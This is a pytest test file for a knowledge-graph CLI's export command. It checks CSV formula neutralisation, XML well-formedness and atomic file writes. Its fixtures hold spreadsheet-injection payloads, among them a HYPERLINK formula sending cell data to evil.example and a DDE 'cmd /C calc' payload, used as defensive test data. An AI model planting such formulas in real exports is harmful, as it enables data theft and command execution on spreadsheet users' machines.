"""``aikg export`` of hostile labels, as a real process on a real store.

Labels reach the store the ways a user's text does: entity names from the loader (what
the extraction pipeline writes) and SPARQL updates (what ``/update`` runs). Some start
like spreadsheet formulas, some hold characters XML 1.0 forbids. A CSV export must not
hand a spreadsheet a formula (unless ``--raw``), GraphML and GEXF must be well-formed XML
that networkx reads back, and an export that fails half-way must leave no partial file
and keep the file that was there.
"""

from __future__ import annotations

import csv
import io
import resource
import subprocess
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import networkx as nx
import pytest

from kg.loader import ingest
from kg.model import Article, Entity, Extraction, RelationMention
from kg.namespaces import ENTITY
from kg.store import LocalStore

from .conftest import aikg_bin, child_env

PLAIN = Entity("Plain Corp", "Organization")
# Names as an article could state them; each becomes an entity through the loader.
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "at": "@Scale Labs",
    "plus": "+1 555 Holdings",
    "minus": "-2+3 Capital",
    "dde": "=cmd|' /C calc'!A0",
    "tab": "\tTabbed Corp",
    "cr": "\rCarriage Co",
}
CONTROLS = {
    "soh": "Ctrl\x01Char Inc",
    "bell": "Bell\x07 and Escape\x1b Ltd",
    "formula-ctrl": "=Sum\x02Of Parts",
}
# Labels an update puts on existing entities (SPARQL escapes, as a client would send them).
UPDATED_LABEL = ("plain-corp", "-Feed\\u000CForm\\u0008Back Ltd", "-Feed\x0cForm\x08Back Ltd")
UPDATED_ALIAS = ("ctrl-char-inc", "alias\\u0002two\\uFFFF", "alias\x02two\uffff")

XML_FORBIDDEN = {chr(c) for c in range(0x20) if c not in (0x9, 0xA, 0xD)} | {"\ufffe", "\uffff"}
FORMULA_START = tuple("=+-@\t\r")
LIMIT = 1 << 20  # RLIMIT_FSIZE for the failing exports: 1 MiB per file


def _stripped(text: str) -> str:
    return "".join(ch for ch in text if ch not in XML_FORBIDDEN)


def _slug(name: str) -> str:
    return Entity(name, "Organization").slug


def _store_with(path: Path, entities: list[Entity]) -> None:
    """Ingest one article in which every entity invests in Plain Corp."""
    text = "Investments. " + " ".join(f"Deal {i}." for i in range(len(entities)))
    art = Article(text=text, url=f"https://news.example/{path.name}", title="Investments", published=date(2024, 5, 1))
    rels = tuple(RelationMention(e, "investsIn", PLAIN, 0.9, f"Deal {i}.", 13, 20) for i, e in enumerate(entities))
    ex = Extraction(art, (PLAIN, *entities), rels, "test-1")
    with LocalStore(path) as store:
        summary = ingest(store, [art], lambda batch: [ex])
        assert summary.new == 1 and summary.relations == len(entities)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Path:
    """A store whose labels start like formulas or hold XML-forbidden characters."""
    path = tmp_path_factory.mktemp("hostile") / "store"
    _store_with(path, [Entity(n, "Organization") for n in (*FORMULAS.values(), *CONTROLS.values())])
    with LocalStore(path) as store:
        slug, sparql_text, _ = UPDATED_LABEL
        store.update(
            "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> "
            "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> "
            f"DELETE {{ <{ENTITY}{slug}> ?k ?old }} "
            f'INSERT {{ <{ENTITY}{slug}> rdfs:label "{sparql_text}" }} '
            f"WHERE {{ VALUES ?k {{ rdfs:label skos:prefLabel }} <{ENTITY}{slug}> ?k ?old }}"
        )
        slug, sparql_text, _ = UPDATED_ALIAS
        store.update(
            "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> "
            f'INSERT DATA {{ <{ENTITY}{slug}> skos:altLabel "{sparql_text}" }}'
        )
    return path


@pytest.fixture(scope="module")
def big_store(tmp_path_factory) -> Path:
    """A store whose every export is well over LIMIT (five labels of 300,000 characters)."""
    path = tmp_path_factory.mktemp("big") / "store"
    _store_with(path, [Entity(f"Big {i} " + "x" * 300_000, "Organization") for i in range(5)])
    return path


def aikg(*args: str, limit: int | None = None) -> subprocess.CompletedProcess:
    """Run ``aikg``; with ``limit``, no file the process writes may grow past that many bytes."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    # No bytecode: a capped interpreter must not leave truncated .pyc files behind.
    env = child_env(PYTHONDONTWRITEBYTECODE="1")
    return subprocess.run(
        [aikg_bin(), *args], capture_output=True, env=env, timeout=120, preexec_fn=cap if limit else None
    )


def _expected_labels() -> dict[str, str]:
    """Return entity IRI -> the label as stored (before any export)."""
    labels = {ENTITY + _slug(n): n for n in (*FORMULAS.values(), *CONTROLS.values())}
    labels[ENTITY + UPDATED_LABEL[0]] = UPDATED_LABEL[2]
    return labels


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_cells_are_neutralised_and_raw_is_verbatim(hostile_store, tmp_path):
    out = tmp_path / "edges.csv"
    proc = aikg("export", "--store", str(hostile_store), "--format", "csv", "-o", str(out))
    assert proc.returncode == 0, proc.stderr.decode()
    rows = _csv_rows(out.read_bytes())
    labels = _expected_labels()
    cells = _cells_by_iri(rows)
    assert set(cells) == set(labels)
    for iri, label in labels.items():
        if label.startswith(FORMULA_START):
            assert cells[iri] == "'" + label, f"{label!r} reached the sheet as {cells[iri]!r}"
        else:
            assert cells[iri] == label
    # No cell of the file, label or not, can start a formula.
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), f"{column} = {cell!r}"

    raw = aikg("export", "--store", str(hostile_store), "--format", "csv", "--raw")
    assert raw.returncode == 0, raw.stderr.decode()
    assert _cells_by_iri(_csv_rows(raw.stdout)) == labels


def _cells_by_iri(rows: list[dict]) -> dict[str, str]:
    """Return entity IRI -> its label cell, from the subject and object columns."""
    cells = {r["subject_iri"]: r["subject"] for r in rows}
    cells.update({r["object_iri"]: r["object"] for r in rows})
    return cells


@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_xml_exports_are_well_formed_and_read_back(hostile_store, tmp_path, fmt, reader):
    out = tmp_path / f"graph.{fmt}"
    proc = aikg("export", "--store", str(hostile_store), "--format", fmt, "-o", str(out))
    assert proc.returncode == 0, proc.stderr.decode()
    assert proc.stderr.decode().count("\n") == 1 and "Traceback" not in proc.stderr.decode()
    ET.parse(out)  # a strict XML 1.0 parser: raises on any forbidden character
    G = reader(out)
    want = {iri: _stripped(label) for iri, label in _expected_labels().items()}
    assert {n: G.nodes[n]["label"] for n in want} == want
    # The alias added by the update is there too, minus its forbidden characters.
    assert _stripped(UPDATED_ALIAS[2]) in G.nodes[ENTITY + UPDATED_ALIAS[0]]["aliases"]
    assert G.number_of_edges() == len(FORMULAS) + len(CONTROLS)
    assert not any(ch in XML_FORBIDDEN for ch in out.read_text(encoding="utf-8"))


EXPORTS = [
    ("turtle", ["export", "--format", "turtle"]),
    ("nquads", ["export", "--format", "nquads"]),
    ("graphml", ["export", "--format", "graphml"]),
    ("gexf", ["export", "--format", "gexf"]),
    ("csv", ["export", "--format", "csv"]),
    ("viz", ["viz", "--limit", "10"]),
]


@pytest.mark.parametrize("name, args", EXPORTS, ids=[e[0] for e in EXPORTS])
def test_an_export_failing_mid_write_leaves_the_old_file_and_no_partial(big_store, tmp_path, name, args):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / f"graph.{name}"
    target.write_bytes(b"the previous export\n")
    proc = aikg(*args, "--store", str(big_store), "-o", str(target), limit=LIMIT)
    err = proc.stderr.decode()
    assert proc.returncode == 1, err
    assert "File too large" in err and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1 and err.startswith("aikg: error:"), err
    assert target.read_bytes() == b"the previous export\n"
    assert sorted(p.name for p in folder.iterdir()) == [target.name]  # no temporary file left

    # Without an earlier file, none appears.
    target.unlink()
    proc = aikg(*args, "--store", str(big_store), "-o", str(target), limit=LIMIT)
    assert proc.returncode == 1 and not list(folder.iterdir())


def test_the_same_exports_succeed_without_the_cap(big_store, tmp_path):
    """The failing test above fails because of the cap: uncapped, each file exceeds it."""
    for name, args in EXPORTS:
        target = tmp_path / f"graph.{name}"
        proc = aikg(*args, "--store", str(big_store), "-o", str(target))
        assert proc.returncode == 0, proc.stderr.decode()
        assert target.stat().st_size > LIMIT, name


def test_a_store_error_writes_nothing(hostile_store, tmp_path):
    target = tmp_path / "graph.csv"
    target.write_bytes(b"kept\n")
    with LocalStore(hostile_store):  # holds the writer lock: the export cannot open the store
        proc = aikg("export", "--store", str(hostile_store), "--format", "csv", "-o", str(target))
    err = proc.stderr.decode()
    assert proc.returncode == 1 and "open in another process" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert target.read_bytes() == b"kept\n" and sorted(tmp_path.iterdir()) == [target]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--format", "xlsx"], "unknown --format"),
        (["--format", "graphml", "--raw"], "--raw applies to --format csv only"),
        (["--format", "csv", "-o", "{tmp}/missing/dir/edges.csv"], "no directory"),
        (["--format", "csv", "-o", "{tmp}"], "is a directory"),
    ],
    ids=["format", "raw-not-csv", "missing-dir", "directory"],
)
def test_bad_export_arguments_exit_2_and_create_nothing(hostile_store, tmp_path, args, message):
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    proc = aikg("export", "--store", str(hostile_store), *args)
    err = proc.stderr.decode()
    assert proc.returncode == 2 and message in err and len(err.strip().splitlines()) == 1, err
    assert not list(tmp_path.iterdir())
